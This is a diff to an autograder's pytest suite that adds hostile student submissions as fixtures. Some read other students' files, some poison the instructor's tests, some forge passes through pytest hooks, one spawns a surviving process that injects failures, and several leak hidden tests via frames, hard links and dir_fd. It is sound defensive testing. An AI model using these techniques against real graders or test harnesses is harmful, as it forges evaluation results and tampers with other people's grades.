@@ -25,6 +25,7 @@ import socket
 import shutil
 import subprocess
 import sys
+import tempfile
 import textwrap
 from pathlib import Path
 
@@ -381,7 +382,169 @@ def graded_class(course, tmp_path_factory):
                     return a + b
         ''')},
         "hog": {"ex02_mul": "def mul(a, b):\n    block = bytearray(7 * 2 ** 30)\n    return a * b\n"},
+        # --- issue 16, continued: the attacks the list above did not cover yet
+        # Reads the student graded at the same time (--jobs 3): "victim" holds a marker in its ex01_add.py;
+        # "peeker" scores ex01 only if it reads that marker in some other student's files (plain open(),
+        # and with the OS sandbox also os.open(dir_fd=...), which the audit hook alone cannot see).
+        "victim": {"ex01_add": f"# {VICTIM}: this line must stay inside victim's own grading\n"
+                               + SOLUTIONS["ex01_add"]},
+        "peeker": {"ex01_add": textwrap.dedent(f'''
+            import glob, os, time
+
+            WANTED = "VICTIM_" + "MARKER_{MARKER}"  # spelled in two halves: not in this file's own text
+            RUNS = {os.path.join(tempfile.gettempdir(), "moe-grade-")!r}  # where the grader makes its folders
+            PLACES = [RUNS + "*/submission/*.py", RUNS + "*/box/exercises/*.py", RUNS + "class-*/subs/*/*.py",
+                      {str(subs)!r} + "/*/*.py"]
+
+            def _read(path):
+                if {OS_SANDBOX!r}:
+                    try:  # relative to "/": the audit hook resolves the name against the working folder instead
+                        d = os.open("/", os.O_RDONLY)
+                        return os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=d), 1 << 16).decode()
+                    except OSError:
+                        pass
+                try:
+                    with open(path, encoding="utf-8") as fh:
+                        return fh.read()
+                except OSError:
+                    return ""
+
+            def add(a, b):
+                end = time.monotonic() + 0.6
+                while time.monotonic() < end:
+                    for pattern in PLACES:
+                        for path in glob.glob(pattern):
+                            if WANTED in _read(path):
+                                return a + b  # points only for reading another student's file
+                    time.sleep(0.05)
+                return a - b
+        ''')},
+        # Finds the instructor's tests folder (the parent's command line, every /proc/<pid>/cmdline and cwd; the
+        # in-process grader has no --tests-dir on its command line, so the course's path stands in for what
+        # an attacker reads there) and appends a failing 100-point test and a conftest hook that fails every
+        # test, for the students graded later. Only folders under the fixture's course are touched (never
+        # the repository running these tests); os.open(dir_fd=...) only with the OS sandbox.
+        "poisoner": {"ex02_mul": textwrap.dedent(f'''
+            import os
+
+            COURSE = {str(course)!r}
+            TEST = ("\\n\\nimport pytest\\n\\n@pytest.mark.points(100)\\ndef test_poisoned():\\n"
+                    "    assert False, 'POISONED'\\n")
+            HOOK = "\\n\\ndef pytest_runtest_setup(item):\\n    raise RuntimeError('POISONED by a student')\\n"
+
+            def _folders():
+                found = {{os.path.join(COURSE, "tests", "exercises")}}
+                for pid in [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
+                    try:
+                        with open(f"/proc/{{pid}}/cmdline", "rb") as fh:
+                            args = [a.decode("utf-8", "replace") for a in fh.read().split(b"\\0")]
+                        cwd = os.readlink(f"/proc/{{pid}}/cwd")
+                    except OSError:
+                        continue
+                    for arg in args + ["tests/exercises"]:
+                        path = os.path.realpath(os.path.join(cwd, arg))
+                        if os.path.isfile(os.path.join(path, "conftest.py")):
+                            found.add(path)
+                return [f for f in found if f.startswith(COURSE + os.sep)]
+
+            def _append(path, text):
+                try:
+                    with open(path, "a") as fh:
+                        fh.write(text)
+                except OSError:
+                    pass
+                if {OS_SANDBOX!r}:
+                    try:
+                        d = os.open(os.path.dirname(path), os.O_RDONLY)
+                        os.write(os.open(os.path.basename(path), os.O_WRONLY | os.O_APPEND, dir_fd=d), text.encode())
+                    except OSError:
+                        pass
+
+            def mul(a, b):
+                for folder in _folders():
+                    try:
+                        names = os.listdir(folder)
+                    except OSError:  # hidden from it: the course's test modules have public names
+                        names = ["test_ex01_add.py", "test_ex02_mul.py", "test_ex03_greet.py"]
+                    for name in names:
+                        if name.startswith("test_") and name.endswith(".py"):
+                            _append(os.path.join(folder, name), TEST)
+                    _append(os.path.join(folder, "conftest.py"), HOOK)
+                return a * b
+        ''')},
+        # In-process forgery, NOT contained (documented): a hook registered at import turns every failed report
+        # into a pass. mul is wrong (a + b), yet ex02 scores full marks.
+        "hooker": {"ex02_mul": HOOKER},
+        # The same, by patching the plugin's reporting (add is wrong) ...
+        "patcher": {"ex01_add": textwrap.dedent('''
+            import sys
+
+            _plugin = sys.modules["moe_grade_plugin"]
+            _emit = _plugin._emit
+            _plugin._emit = lambda rec: _emit({**rec, "outcome": "passed"} if rec.get("ev") == "result" else rec)
+
+            def add(a, b):
+                return a - b
+        ''')},
+        # ... and by rewriting the collected tests (greet is wrong): every test not run yet passes.
+        "rewriter": {"ex03_greet": textwrap.dedent('''
+            import gc
+
+            for _obj in gc.get_objects():
+                if type(_obj).__name__ == "Function" and hasattr(_obj, "runtest"):
+                    _obj.runtest = lambda: None
+
+            def greet(name):
+                return "bye"
+        ''')},
+        "zz_late": {},  # graded last: what the poisoner and the survivor did must not reach it
     }
+    if OS_SANDBOX:
+        # Without the OS sandbox this gets through (setsid escapes the process group, and the reports are the
+        # grader's own user's files): the fallback is documented as not containing it, so it runs only here.
+        # A process that outlives its own grading (a new session, no audit event) and appends a failure for
+        # every collected test to the other students' reports.
+        students["survivor"] = {"ex03_greet": textwrap.dedent(f'''
+            import os, sys
+
+            SCRIPT = """# survivor-{MARKER}
+            import glob, json, os, time
+            own = os.path.dirname(os.environ.get("MOE_GRADE_CONFIG", "/nonexistent/x"))
+            end = time.time() + 30
+            while time.time() < end:
+                for rep in glob.glob({os.path.join(tempfile.gettempdir(), "moe-grade-*", "report-*.jsonl")!r}):
+                    if os.path.dirname(rep) == own:
+                        continue
+                    try:
+                        ids = []
+                        with open(rep) as fh:
+                            for line in fh:
+                                try:
+                                    rec = json.loads(line)
+                                    ids += [t["id"] for t in rec["tests"]] if rec.get("ev") == "collected" else []
+                                except Exception:
+                                    pass
+                        with open(rep, "a") as fh:
+                            for i in ids:
+                                rec = dict(ev="result", id=i, outcome="failed", msg="INJECTED")
+                                fh.write(json.dumps(rec) + chr(10))
+                    except OSError:
+                        pass
+                time.sleep(0.05)
+            """
+
+            def greet(name):
+                try:
+                    import _posixsubprocess
+                    exe = sys.executable.encode()
+                    r, w = os.pipe()
+                    _posixsubprocess.fork_exec([exe, b"-c", SCRIPT.encode()], [exe], True, (w,), None, None, -1, -1,
+                                               -1, -1, -1, -1, r, w, False, True, -1, None, None, None, -1, None,
+                                               False)
+                except Exception:
+                    pass
+                return "hello, " + name
+        ''')}
     for name, broken in students.items():
         _student(subs, name, broken, nested=name.startswith("nested"))
     # Names: a CSV formula, a reserved name, a 200-character name; a submission that is a symbolic link.
@@ -395,6 +558,7 @@ def graded_class(course, tmp_path_factory):
         (root / victim).write_text("victim", encoding="utf-8")
         link.symlink_to(root / victim)
     # In-process (TensorFlow is imported once); the grader's hard kill comes 2 s after a test's limit.
+    tests_before = _digest(course / "tests" / "exercises")
     hard_grace, grade.HARD_GRACE_S = grade.HARD_GRACE_S, 2.0
     stdout, stderr = io.StringIO(), io.StringIO()
     try:
@@ -404,16 +568,55 @@ def graded_class(course, tmp_path_factory):
     finally:
         grade.HARD_GRACE_S = hard_grace
         listener.close()
-    survivors = [p for p in Path("/proc").glob("[0-9]*") if _cmdline(p).endswith(f"sleep {MARKER}")]
+    survivors = [p for p in Path("/proc").glob("[0-9]*")
+                 if _cmdline(p).endswith(f"sleep {MARKER}") or f"survivor-{MARKER}" in _cmdline(p)]
     for p in survivors:
         with contextlib.suppress(OSError):
             os.kill(int(p.name), signal.SIGKILL)
     capsys_out = subprocess.CompletedProcess([], code, stdout.getvalue(), stderr.getvalue())
     return {"root": root, "out": out, "canary": canary, "canary_dir": canary_dir, "proc": capsys_out,
-            "students": students, "survivors": survivors}
+            "students": students, "survivors": survivors,
+            "course_tests": (tests_before, _digest(course / "tests" / "exercises"))}
 
 
 MARKER = 86400 + os.getpid()  # "sleep MARKER": the process the "escaper" student leaves behind
+VICTIM = f"VICTIM_MARKER_{MARKER}"  # in "victim"'s ex01_add.py only
+
+
+def _hooker(function: str, wrong: str) -> str:
+    """An exercise module that registers, at import, a pytest hook turning every failed report into a pass."""
+    return textwrap.dedent(f'''
+        import gc
+
+        import pytest
+
+
+        class _Forge:
+            @pytest.hookimpl(hookwrapper=True)
+            def pytest_runtest_makereport(self, item, call):
+                outcome = yield
+                report = outcome.get_result()
+                if report.failed:
+                    report.outcome, report.longrepr = "passed", None
+
+
+        for _obj in gc.get_objects():
+            if type(_obj).__name__ == "PytestPluginManager" and not _obj.has_plugin("forge"):
+                _obj.register(_Forge(), "forge")
+                break
+
+
+        def {function}(a, b):
+            return {wrong}
+    ''')
+
+
+HOOKER = _hooker("mul", "a + b")  # wrong: mul(4, 5) is 9
+
+
+def _digest(folder: Path) -> dict[str, str]:
+    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}
 
 
 def _cmdline(proc: Path) -> str:
@@ -453,11 +656,21 @@ EXPECTED = {  # student: (ex01, ex02, ex03)
     "-2_3": (3, 3, 4),
     LONG: (3, 3, 4),
     "linked": (0, 0, 0),
+    "victim": (3, 3, 4),
+    "peeker": (0, 3, 4),  # it read no other student's file
+    "poisoner": (3, 0, 4),  # its writes outside the box are refused, which costs it ex02
+    # NOT contained (see test_in_process_forgery_is_not_contained): wrong answers, forged passes.
+    "hooker": (3, 3, 4),
+    "patcher": (3, 3, 4),
+    "rewriter": (3, 3, 4),
+    "zz_late": (3, 3, 4),  # graded after the poisoner and the survivor: untouched
 }
 # Without an OS sandbox (no bwrap, not root) the network is reachable: noted, not contained.
 OS_SANDBOX = grade.JAIL.detect() != "none"
 if not OS_SANDBOX:
     EXPECTED["network"] = (0, 3, 4)
+if OS_SANDBOX:
+    EXPECTED["survivor"] = (3, 3, 4)
 
 
 def test_class_grading_runs_and_exits_zero(graded_class):
@@ -555,6 +768,60 @@ def test_hostile_class_leaves_nothing_on_the_machine(graded_class):
     assert "sandbox: unshare namespaces" in graded_class["proc"].stdout or "bubblewrap" in graded_class["proc"].stdout
 
 
+def test_hostile_class_cannot_read_the_student_graded_alongside(graded_class):
+    """--jobs 3: "peeker" polls the other students' grading folders and the class's private copies for the
+    marker in "victim"'s ex01_add.py, and scores ex01 only if it finds it."""
+    rows = read_csv(graded_class["out"] / "grades.csv")
+    assert rows["peeker"]["ex01_add"] == "0" and rows["victim"]["total"] == "10"
+    outputs = [graded_class["out"] / "grades.csv", *(graded_class["out"] / "feedback").glob("*.md")]
+    assert not [p.name for p in outputs if VICTIM in p.read_text(encoding="utf-8")]
+    assert VICTIM not in graded_class["proc"].stdout + graded_class["proc"].stderr
+
+
+def test_hostile_class_cannot_poison_the_tests_for_later_students(graded_class):
+    """"poisoner" appends a failing 100-point test and a fail-everything conftest hook to the instructor's
+    tests folder: the folder is byte for byte what it was, and no later student (zz_late) loses a point."""
+    before, after = graded_class["course_tests"]
+    assert before and after == before
+    rows = read_csv(graded_class["out"] / "grades.csv")
+    assert rows["max"]["total"] == "10" and rows["zz_late"]["total"] == "10"
+    everything = "".join(p.read_text(encoding="utf-8") for p in (graded_class["out"] / "feedback").glob("*.md"))
+    assert "POISONED" not in everything and "test_poisoned" not in everything
+    assert "sandbox violation" in (graded_class["out"] / "feedback" / "poisoner.md").read_text(encoding="utf-8")
+
+
+@pytest.mark.skipif(not OS_SANDBOX, reason="the survivor runs only with an OS sandbox: without one it gets through "
+                                           "(documented in solutions/README.md)")
+def test_hostile_class_a_surviving_process_reaches_no_later_report(graded_class):
+    """"survivor" starts a process in a new session (no audit event) that, for 30 s, appends a failure for
+    every collected test to every other grading report it can find: it dies with its pid namespace."""
+    assert graded_class["survivors"] == []
+    everything = "".join(p.read_text(encoding="utf-8") for p in (graded_class["out"] / "feedback").glob("*.md"))
+    assert "INJECTED" not in everything
+    rows = read_csv(graded_class["out"] / "grades.csv")
+    assert rows["survivor"]["total"] == "10" and rows["zz_late"]["total"] == "10"
+
+
+def test_in_process_forgery_is_not_contained(graded_class):
+    """Documents a known hole, not a guarantee: code running in the test process can report its own failed
+    tests as passed: "hooker" registers a pytest hook at import (its mul returns a + b), "patcher" wraps the
+    plugin's reporting (add returns a - b), "rewriter" replaces the collected tests' bodies (greet returns
+    "bye"); all three score full marks. What stops them going further (other students, points, the
+    catalogue) is tested above; solutions/README.md and docs/teaching.md say so and give the high-stakes
+    set-up. If this test fails, the grader learnt to contain it: update those documents."""
+    rows = read_csv(graded_class["out"] / "grades.csv")
+    assert (rows["hooker"]["ex02_mul"], rows["patcher"]["ex01_add"], rows["rewriter"]["ex03_greet"]) == ("3", "3", "4")
+    hooker = (graded_class["out"] / "feedback" / "hooker.md").read_text(encoding="utf-8")
+    assert "- PASS `test_ex02_mul.py::test_mul_ints` (2 / 2)" in hooker
+    # ...but only their own verdicts: the class's maximum is unchanged. Their forged pass of the test that skips
+    # itself for everyone (its data is missing) would have raised the max row to 15; it counts for no one.
+    assert rows["max"]["total"] == "10"
+    for student in ("patcher", "rewriter"):
+        feedback = (graded_class["out"] / "feedback" / f"{student}.md").read_text(encoding="utf-8")
+        assert "- SKIP `test_ex03_greet.py::test_greet_needs_data` (not counted)" in feedback
+        assert "skipped itself for most of the class" in feedback
+
+
 def test_copy_findings_reads_the_source(tmp_path):
     """Copy detection from the source alone: imports of moe_tf or solutions, and solutions/ paths."""
     _write(tmp_path, {
@@ -631,6 +898,190 @@ def test_hidden_tests_show_only_names_points_and_verdicts(course, tmp_path, caps
     everything = out + err + "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "out").rglob("*.md"))
     assert "SECRET" not in everything  # ...but never the hidden tests' source or assertion text
     assert "edge cases" not in everything
+
+
+# ----------------------------------------------------------------------------- hidden tests against a hostile class
+
+# Each leaker finds the hidden test's text with one technique. Called by the hidden test (add(-2, -3)) it
+# stashes what it found wherever it can write, and passes only if it found it: a hidden PASS shows that the
+# technique did see the hidden test. Called by a visible test, it fails with whatever it finds, itself or in
+# the stashes of the students graded before it: a visible PASS and no SECRET text in any output show
+# that nothing left the hidden session. The shared folders are tried only with the OS sandbox (without
+# one, /tmp is the machine's own, and a stash there reaches a later student: documented, not contained).
+LEAK_COMMON = '''
+import glob, inspect, linecache, os, sys
+
+HIDDEN_DIR = {hidden!r}  # the instructor's folder, as if found
+BOX_HIDDEN = os.path.join(os.path.dirname(os.environ.get("MOE_TF_EXERCISES_DIR", "/nonexistent")), "tests",
+                          "exercises", "_hidden")
+PLACES = [".", os.environ.get("HOME", "."), os.environ.get("TMPDIR", ".")] + {shared!r}
+STASH = "stash-{marker}.txt"
+KEY = "SECRET" + "_"  # how the hidden test's text starts (spelled so that this module's own text does not hold it)
+
+
+def _stash(text):
+    for place in PLACES:
+        try:  # through dir_fd: the audit hook sees only a name relative to the working folder
+            d = os.open(place, os.O_RDONLY)
+            os.write(os.open(STASH, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666, dir_fd=d), text.encode() + b"\\n")
+        except OSError:
+            pass
+
+
+def _stashed():
+    out = []
+    for place in PLACES:
+        try:
+            with open(os.path.join(place, STASH), encoding="utf-8") as fh:
+                out.append(fh.read())
+        except OSError:
+            pass
+    return " | ".join(out)
+
+
+def add(a, b):
+    found = _find()
+    if a < 0:  # the hidden test
+        if KEY in found:
+            _stash(found)
+            return a + b
+        return a - b
+    leaked = found + _stashed()
+    if KEY in leaked:
+        raise AssertionError("LEAK " + leaked[:2000])
+    return a + b
+'''
+
+LEAKERS = {
+    # Modules already loaded in the process: the hidden test module's constants and cached lines.
+    "leak_modules": '''
+def _find():
+    out = []
+    for name, module in list(sys.modules.items()):
+        path = str(getattr(module, "__file__", "") or "")
+        for value in list(vars(module).values()) if "test_" in path else []:
+            code = getattr(value, "__code__", None)
+            out += [c for c in getattr(code, "co_consts", ()) if isinstance(c, str)]
+        out += linecache.cache.get(path, (0, 0, []))[2] if "hidden" in path else []
+    return " ".join(out)
+''',
+    # The calling frames: sys._getframe and inspect.stack (without reading source files).
+    "leak_frame": '''
+def _find():
+    out = []
+    frame = sys._getframe(1)
+    while frame is not None:
+        out += [c for c in frame.f_code.co_consts if isinstance(c, str)]
+        frame = frame.f_back
+    for info in inspect.stack(0):
+        if info.frame.f_globals is not globals():  # not its own
+            out += [v for v in info.frame.f_globals.values() if isinstance(v, str)]
+    return " ".join(out)
+''',
+    # A hard link to the hidden test file, read under its new name.
+    "leak_hardlink": '''
+def _find():
+    out = []
+    for i, path in enumerate(glob.glob(HIDDEN_DIR + "/*.py") + glob.glob(BOX_HIDDEN + "/*.py")):
+        link = "hl%d.py" % i
+        try:
+            os.link(path, link)
+            with open(link, encoding="utf-8") as fh:
+                out.append(fh.read())
+        except OSError:
+            pass
+    return " ".join(out)
+''',
+    # os.open(name, dir_fd=...) from the folder above: the audit hook resolves the names against the working
+    # folder, so neither the hidden folder nor its files are seen as such.
+    "leak_dirfd": '''
+def _find():
+    out = []
+    for folder in (HIDDEN_DIR, BOX_HIDDEN):
+        try:
+            up = os.open(os.path.dirname(folder), os.O_RDONLY)
+            d = os.open(os.path.basename(folder), os.O_RDONLY, dir_fd=up)
+            for name in os.listdir(d):
+                out.append(os.read(os.open(name, os.O_RDONLY, dir_fd=d), 1 << 16).decode("utf-8", "replace"))
+        except OSError:
+            pass
+    return " ".join(out)
+''',
+    # Graded after the others: finds nothing itself, reads their stashes.
+    "zz_reader": '''
+def _find():
+    return ""
+''',
+}
+SHARED_PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock"]
+
+
+@pytest.fixture(scope="module")
+def hidden_class(course, tmp_path_factory):
+    """A class graded with --hidden-tests, one after the other (--jobs 1: the stashes of one student's hidden
+    session are there when the next student's visible session runs)."""
+    root = tmp_path_factory.mktemp("hidden_class")
+    subs = root / "submissions"
+    shared = SHARED_PLACES if OS_SANDBOX else []
+    for name, find in LEAKERS.items():
+        source = textwrap.dedent(LEAK_COMMON).format(hidden=str(course / "hidden"), shared=shared, marker=MARKER)
+        _student(subs, name, {"ex01_add": source + textwrap.dedent(find)})
+    _student(subs, "forge_hidden", {"ex01_add": _hooker("add", "a - b")})  # in-process forgery, hidden session too
+    _student(subs, "good", {})
+    hard_grace, grade.HARD_GRACE_S = grade.HARD_GRACE_S, 2.0
+    stdout, stderr = io.StringIO(), io.StringIO()
+    try:
+        with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
+            code = grade.main([str(a) for a in ("--tests-dir", course / "tests" / "exercises", "--hidden-tests",
+                                                course / "hidden", "--submissions", subs, "--out", root / "out",
+                                                "--timeout", "1")])
+    finally:
+        grade.HARD_GRACE_S = hard_grace
+    left = [str(Path(p) / f"stash-{MARKER}.txt") for p in SHARED_PLACES]
+    left = [p for p in left if os.path.exists(p)]
+    for p in left:
+        with contextlib.suppress(OSError):
+            os.remove(p)
+    return {"code": code, "out": root / "out", "stdout": stdout.getvalue(), "stderr": stderr.getvalue(),
+            "left": left}
+
+
+def test_hidden_tests_do_not_leak_from_a_hostile_class(hidden_class):
+    out = hidden_class["out"]
+    assert hidden_class["code"] == 0, hidden_class["stdout"] + hidden_class["stderr"]
+    rows = read_csv(out / "grades.csv")
+    assert rows["max"]["ex01_add"] == "5" and rows["good"]["total"] == "12"
+    texts = {p.name: p.read_text(encoding="utf-8") for p in [out / "grades.csv", *(out / "feedback").glob("*.md")]}
+    texts["stdout"], texts["stderr"] = hidden_class["stdout"], hidden_class["stderr"]
+    assert not [name for name, text in texts.items() if "SECRET_" in text or "edge cases" in text]
+    assert hidden_class["left"] == []  # no stash left in a shared folder of the machine
+    for student in LEAKERS:
+        feedback = texts[f"{student}.md"]
+        # The visible session found neither the hidden test nor an earlier student's stash.
+        assert "- PASS `test_ex01_add.py::test_add_ints` (2 / 2)" in feedback, feedback
+        assert "- PASS `test_ex01_add.py::test_add_floats` (1 / 1)" in feedback, feedback
+        assert "LEAK" not in feedback
+
+
+@pytest.mark.skipif(not OS_SANDBOX, reason="the verdicts below are those of the OS sandbox (user nobody)")
+def test_hidden_session_attacks_are_live(hidden_class):
+    """Not vacuous: in the hidden session, sys.modules, the calling frames and dir_fd do reach the hidden test
+    (its hidden verdict passes only then). A hard link is refused by the kernel there (protected_hardlinks:
+    nobody owns neither the file nor write access to it), so its hidden test fails."""
+    feedback = hidden_class["out"] / "feedback"
+    hidden_pass = "- PASS `[hidden] test_ex01_extra.py::test_add_negative` (2 / 2)"
+    for student in ("leak_modules", "leak_frame", "leak_dirfd"):
+        assert hidden_pass in (feedback / f"{student}.md").read_text(encoding="utf-8"), student
+    rows = read_csv(hidden_class["out"] / "grades.csv")
+    assert rows["zz_reader"]["total"] == "10"  # its add(-2, -3) finds nothing: the hidden test fails
+
+
+def test_in_process_forgery_reaches_the_hidden_verdicts_too(hidden_class):
+    """Documents a known hole: the hidden session imports the student's module as well, so a pytest hook it
+    registers forges the hidden verdicts too (add is a - b here, and scores 5 / 5). Hidden tests keep their
+    text secret; they are no defence against forgery."""
+    rows = read_csv(hidden_class["out"] / "grades.csv")
+    assert rows["forge_hidden"]["ex01_add"] == "5"
 
 
 def test_timeout_marker_and_points_kwarg():
